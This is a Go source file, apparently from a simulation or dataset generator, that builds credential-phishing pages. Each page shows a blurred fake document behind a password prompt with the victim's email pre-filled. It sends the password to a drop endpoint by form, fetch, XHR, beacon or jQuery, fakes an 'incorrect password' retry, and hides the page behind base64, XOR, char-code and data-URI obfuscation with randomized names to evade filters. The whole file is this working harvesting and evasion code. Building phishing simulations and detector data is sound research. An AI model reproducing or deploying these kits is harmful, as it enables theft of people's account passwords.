package scenario

import (
	stdbase64 "encoding/base64"
	"fmt"
	"net/url"
	"strings"
)

// A kit is what an actor builds or rents: a page that asks for a password before it shows a document. Its skeleton stays
// the same through all of its mails; what it says and where it sends to does not.
type kit struct {
	label  string
	layout int
	layer  string // how the page is hidden in its source
	send   string // how the answer leaves: "form", "fetch", "xhr", "beacon", "jquery"
	path   string // of the place that it leaves to
	user   string // name of the address field
	pass   string
	extra  int  // further elements of its own
	poly   bool // class and id names change with every mail
}

var layers = []string{"plain", "atob", "unescape", "charcode", "array", "xor", "reverse", "twice", "endpoint", "data-uri"}

var postPaths = []string{"/wp-includes/js/post.php", "/next.php", "/cgi/mail/submit.php", "/assets/send.php", "/portal/auth/log.php", "/api/v1/doc/verify", "/x/collect.php", "/docs/in.php", "/gate/save.php", "/s/a1.php"}

func newKit(d dice, label string) *kit {
	return &kit{label: label, layout: d.IntN(6), layer: pick(d, layers), send: pick(d, []string{"form", "form", "fetch", "xhr", "beacon", "jquery"}), path: pick(d, postPaths),
		user: pick(d, []string{"email", "user", "login", "uid", "fm-usr", "acct"}), pass: pick(d, []string{"password", "pass", "pwd", "pw1", "fm-pwd", "secret"}), extra: d.IntN(64)}
}

// A page is what a kit shows to one reader.
type page struct {
	title, note, button string
	victim              string // address in the form
	brand               string
	endpoint            string // where the answer goes
	rows                []string
}

// render writes the page. Throws of d only vary what may vary within a kit.
func (k *kit) render(d dice, p page) string {
	names := newDice(int64(k.extra), "kit", k.label)
	if k.poly {
		names = d
	}
	cls := func() string { return names.from(lowers, names.between(3, 8)) }
	a, b, c, e, f := cls(), cls(), cls(), cls(), cls()
	id := cls()
	var s strings.Builder
	s.WriteString("<!DOCTYPE html>\n<html>\n<head>\n<meta charset=\"utf-8\">\n")
	if k.extra&1 != 0 {
		s.WriteString("<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\n")
	}
	if k.extra&2 != 0 {
		s.WriteString("<meta name=\"robots\" content=\"noindex, nofollow\">\n<link rel=\"icon\" href=\"data:,\">\n")
	}
	fmt.Fprintf(&s, "<title>%s</title>\n<style>\nbody{margin:0;font-family:Segoe UI,Arial,sans-serif;background:#f2f4f7}\n.%s{filter:blur(4px);padding:30px}\n.%s{position:fixed;top:18%%;left:50%%;width:360px;margin-left:-180px;background:#fff;padding:26px;box-shadow:0 2px 14px #777}\n.%s{width:100%%;padding:9px;margin:6px 0;border:1px solid #bbb}\n.%s{background:#0b5;color:#fff;border:0;padding:10px 24px}\n.%s{color:#b00;font-size:13px}\n</style>\n</head>\n<body>\n", p.title, a, b, c, e, f)
	s.WriteString(k.backdrop(p, a, cls()))
	for range k.extra >> 3 & 3 {
		fmt.Fprintf(&s, "<div class=\"%s\">", cls())
	}
	action, method := "", ""
	if k.send == "form" {
		action, method = ` action="`+p.endpoint+`"`, ` method="post"`
		if k.layer == "endpoint" {
			action = ""
		}
	}
	fmt.Fprintf(&s, "<div class=\"%s\">\n<h3>%s</h3>\n<p>%s</p>\n<form id=\"%s\"%s%s>\n", b, p.brand, p.note, id, method, action)
	if k.extra&4 != 0 {
		fmt.Fprintf(&s, "<input type=\"hidden\" name=\"%s\" value=\"%s\">\n", names.from(lowers, 3), d.hex(12))
	}
	fmt.Fprintf(&s, "<input class=\"%s\" type=\"email\" name=\"%s\" value=\"%s\" readonly>\n<input class=\"%s\" type=\"password\" name=\"%s\" placeholder=\"Password\" required>\n<p class=\"%s\" id=\"%s\"></p>\n<button class=\"%s\" type=\"submit\">%s</button>\n</form>\n</div>\n",
		c, k.user, p.victim, c, k.pass, f, id+"m", e, p.button)
	for range k.extra >> 3 & 3 {
		s.WriteString("</div>")
	}
	s.WriteString(k.script(id, p.endpoint))
	s.WriteString("</body>\n</html>\n")
	return hide(d, k.layer, s.String())
}

// backdrop is what the reader sees behind the question.
func (k *kit) backdrop(p page, cls, other string) string {
	var s strings.Builder
	switch k.layout {
	case 0:
		fmt.Fprintf(&s, "<div class=\"%s\"><table border=\"1\" cellpadding=\"6\">\n<tr><th>No.</th><th>Description</th><th>Qty</th></tr>\n", cls)
		for i, r := range p.rows {
			fmt.Fprintf(&s, "<tr><td>%d</td><td>%s</td><td>&nbsp;</td></tr>\n", i+1, r)
		}
		s.WriteString("</table></div>\n")
	case 1:
		fmt.Fprintf(&s, "<div style=\"background:#107c41;color:#fff;padding:8px\">%s.xlsx</div>\n<div class=\"%s\"><ol>", p.title, cls)
		for _, r := range p.rows {
			s.WriteString("<li>" + r + "</li>")
		}
		s.WriteString("</ol></div>\n")
	case 2:
		fmt.Fprintf(&s, "<header><svg width=\"40\" height=\"40\"><rect width=\"18\" height=\"18\" fill=\"#38c\"/><rect x=\"20\" y=\"20\" width=\"18\" height=\"18\" fill=\"#3a6\"/></svg><span class=\"%s\">%s</span></header>\n", other, p.brand)
	case 3:
		fmt.Fprintf(&s, "<nav><a href=\"#\">Files</a> <a href=\"#\">Recent</a> <a href=\"#\">Shared</a></nav>\n<section class=\"%s\"><article><b>%s</b><br><small>1.2 MB</small></article></section>\n", cls, p.title)
	case 4:
		fmt.Fprintf(&s, "<div style=\"background:#525659;height:44px;color:#eee\"><span>%s.pdf</span><span style=\"float:right\">1 / 3</span></div>\n<div class=\"%s\"><p>%s</p><hr><p>&nbsp;</p></div>\n", p.title, cls, strings.Join(p.rows, "</p><p>"))
	default:
		fmt.Fprintf(&s, "<main class=\"%s\"><dl><dt>Document</dt><dd>%s</dd><dt>Pages</dt><dd>3</dd></dl></main>\n", cls, p.title)
	}
	return s.String()
}

// script sends the answer and asks a second time.
func (k *kit) script(id, endpoint string) string {
	to := `"` + endpoint + `"`
	if k.layer == "endpoint" {
		to = `atob("` + stdbase64.StdEncoding.EncodeToString([]byte(endpoint)) + `")`
	}
	head := "var n=0,f=document.getElementById('" + id + "'),m=document.getElementById('" + id + "m');\n"
	again := "n++;m.innerHTML='Incorrect password, please try again.';f." + k.pass + ".value='';if(n>1){location.href='about:blank'}"
	if strings.ContainsAny(k.pass, "-") {
		again = "n++;m.innerHTML='Wrong password.';f.reset();if(n>1){location.replace('about:blank')}"
	}
	switch k.send {
	case "fetch":
		return "<script>\n" + head + "f.addEventListener('submit',function(v){v.preventDefault();fetch(" + to + ",{method:'POST',mode:'no-cors',body:new URLSearchParams(new FormData(f))});" + again + "});\n</script>\n"
	case "xhr":
		return "<script>\n" + head + "f.onsubmit=function(){var x=new XMLHttpRequest();x.open('POST'," + to + ",true);x.send(new FormData(f));" + again + ";return false};\n</script>\n"
	case "beacon":
		return "<script>\n" + head + "f.onsubmit=function(){navigator.sendBeacon(" + to + ",new FormData(f));" + again + ";return false};\n</script>\n"
	case "jquery":
		return "<script src=\"https://code.jquery.com/jquery-3.5.1.min.js\"></script>\n<script>\n" + head + "$('#" + id + "').submit(function(){$.post(" + to + ",$(this).serialize());" + again + ";return false});\n</script>\n"
	}
	if k.layer == "endpoint" {
		return "<script>document.getElementById('" + id + "').action=" + to + ";</script>\n"
	}
	return ""
}

// hide wraps a page in a layer of obfuscation.
func hide(d dice, layer, html string) string {
	wrap := func(script string) string {
		return "<html>\n<body>\n<script>\n" + script + "\n</script>\n</body>\n</html>\n"
	}
	b64 := stdbase64.StdEncoding.EncodeToString([]byte(html))
	switch layer {
	case "atob":
		return wrap("document.write(atob(\"" + b64 + "\"));")
	case "unescape":
		return wrap("document.write(unescape('" + strings.ReplaceAll(url.QueryEscape(html), "+", "%20") + "'));")
	case "charcode":
		codes := make([]string, len(html))
		for i := range html {
			codes[i] = fmt.Sprint(html[i])
		}
		return wrap("document.write(String.fromCharCode(" + strings.Join(codes, ",") + "));")
	case "array":
		v := d.from(lowers, 2)
		var cut []string
		for s := b64; s != ""; {
			n := min(len(s), d.between(60, 90))
			cut = append(cut, "'"+s[:n]+"'")
			s = s[n:]
		}
		return wrap("var _" + v + "=[" + strings.Join(cut, ",\n") + "];\ndocument.write(atob(_" + v + ".join('')));")
	case "xor":
		key := byte(d.between(17, 120))
		x := []byte(html)
		for i := range x {
			x[i] ^= key
		}
		return wrap(fmt.Sprintf("var q=atob('%s'),o='';for(var i=0;i<q.length;i++){o+=String.fromCharCode(q.charCodeAt(i)^%d)}document.write(o);", stdbase64.StdEncoding.EncodeToString(x), key))
	case "reverse":
		r := []byte(b64)
		for i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {
			r[i], r[j] = r[j], r[i]
		}
		return wrap("document.write(atob('" + string(r) + "'.split('').reverse().join('')));")
	case "twice":
		return hide(d, "unescape", hide(d, "atob", html))
	case "data-uri":
		return "<html><head><meta http-equiv=\"refresh\" content=\"0;url=data:text/html;base64," + b64 + "\"></head><body></body></html>\n"
	}
	return html
}
